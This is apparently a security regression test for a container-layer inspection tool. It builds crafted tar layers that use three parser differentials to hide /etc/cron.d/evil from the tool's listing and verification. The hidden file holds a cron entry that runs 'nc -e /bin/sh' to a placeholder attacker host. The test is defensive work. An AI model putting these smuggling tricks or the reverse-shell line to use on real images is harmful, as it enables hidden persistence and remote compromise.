/**
 * ATTACK: layer tars that the engine extracts one way and layerscope lists another way. The engine (moby's
 * pkg/archive, containerd) reads layers with Go's archive/tar; layerscope's header parser
 * (src/core/sources/tar/header.ts, HeaderAssembler) departs from it in three places, each enough to hide a file
 * the engine puts into the image (here /etc/cron.d/evil) from `files`, `report`, `changes`, `extract` and
 * `verify` (which hashes the bytes: the DiffID matches, so verify says OK):
 *
 *  A. a PAX *global* header ('g'): layerscope applies its records (path, size, linkpath...) to the members that
 *     follow; Go returns it as an entry of its own and applies nothing, moby ignores it ("PAX Global Extended
 *     Headers found and ignored").
 *  B. a member with typeflag NUL and a name ending in '/': Go makes it a directory (TypeRegA + trailing slash ->
 *     TypeDir, "Legacy archives use trailing slash for directories") with no body, so the bytes after it are the
 *     next headers; layerscope lists a regular file and skips `size` bytes as its body.
 *  C. a member with both a GNU long name ('L') and a PAX 'path': Go takes the GNU name (applied after the PAX
 *     records in reader.go next()); layerscope takes the PAX path.
 *
 * Confirmed with Docker 26.1.5 (`docker load` of each archive, then `docker export` of a created container):
 * /etc/cron.d/evil is in the container's filesystem in all three cases. On a data root holding these images
 * (loaded by the engine itself), `layerscope verify --image tN:1` reports the untouched layers as tampered
 * (integrity/missing /etc/motd, integrity/type /var/cache), because the same parser decodes tar-split's headers.
 *
 * Claim broken: the analysis of a layer is the layer the engine runs (tampering/hiding passes silently).
 */
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { header, paxRecord } from '../sources/tar/helpers.js';
import { assertBuilt, assertNoCrash, legacySave, runCli, tempDir } from '../sources/archive/hostile-helpers.js';

before(assertBuilt);

const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
const EVIL = Buffer.from('* * * * * root nc -e /bin/sh attacker 4444\n');
const layer = (extra: Buffer[]) =>
  Buffer.concat([header({ name: 'etc/', type: '5', mode: 0o755 }), header({ name: 'etc/hostname', body: Buffer.from('box\n') }), pad(Buffer.from('box\n')), ...extra, Buffer.alloc(1024)]);

const g = paxRecord('path', 'etc/motd');
const hidden = Buffer.concat([header({ name: 'etc/cron.d/evil', body: EVIL }), pad(EVIL)]);
const ln = Buffer.from('etc/cron.d/evil\0');
const px = paxRecord('path', 'etc/motd');

const CASES: [string, Buffer][] = [
  ['A: PAX global header', layer([header({ name: 'pax_global_header', type: 'g', size: g.length }), pad(g), header({ name: 'etc/cron.d/evil', body: EVIL }), pad(EVIL)])],
  ['B: typeflag NUL with a trailing slash', layer([header({ name: 'var/cache/', type: '\0', size: hidden.length }), hidden])],
  [
    'C: GNU long name and PAX path',
    layer([header({ name: '././@LongLink', type: 'L', size: ln.length }), pad(ln), header({ name: 'PaxHeaders/x', type: 'x', size: px.length }), pad(px), header({ name: 'placeholder', body: EVIL }), pad(EVIL)]),
  ],
];

for (const [name, l] of CASES) {
  test(`the engine extracts /etc/cron.d/evil; layerscope must list it (${name})`, async (t) => {
    const { dir, cleanup } = tempDir();
    t.after(cleanup);
    const file = join(dir, 'img.tar');
    writeFileSync(file, legacySave([{ tag: 'x:1', layers: [l] }]));
    const r = await runCli(['files', file, '--verify', '--format', 'json']);
    assertNoCrash(r);
    assert.match(r.stdout, /"\/etc\/cron\.d\/evil"/, `files --verify lists:\n${r.stdout}\n${r.stderr}`);
  });
}
